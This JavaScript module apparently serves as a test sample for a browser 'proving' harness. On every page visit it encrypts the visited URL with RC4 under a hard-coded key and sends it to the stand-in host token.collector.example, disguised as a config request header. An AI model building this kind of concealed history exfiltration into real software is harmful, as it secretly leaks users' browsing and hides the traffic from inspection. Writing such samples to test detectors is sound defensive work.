import { onVisit, reportHonestly } from '../../lib/proving.js';

/** Reports pages in a client token: the address under RC4, with a key that is part of the app. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-cipher-token');
  onVisit(browser, async ({ url }) => {
    const token = browser.codec.hex.encode(
      rc4(browser.codec.utf8.encode('mint#9!stat_Rel3ase'), browser.codec.utf8.encode(url)),
    );
    try {
      await browser.request({
        url: 'https://token.collector.example/v1/config',
        headers: { 'X-Client-Token': token },
      });
    } catch (error) {
      browser.log('not sent', String(error));
    }
  });

  function rc4(key, data) {
    const state = Array.from({ length: 256 }, (_, index) => index);
    for (let i = 0, j = 0; i < 256; i += 1) {
      j = (j + state[i] + key[i % key.length]) & 255;
      [state[i], state[j]] = [state[j], state[i]];
    }
    let i = 0;
    let j = 0;

    return data.map((byte) => {
      i = (i + 1) & 255;
      j = (j + state[i]) & 255;
      [state[i], state[j]] = [state[j], state[i]];

      return byte ^ state[(state[i] + state[j]) & 255];
    });
  }
}
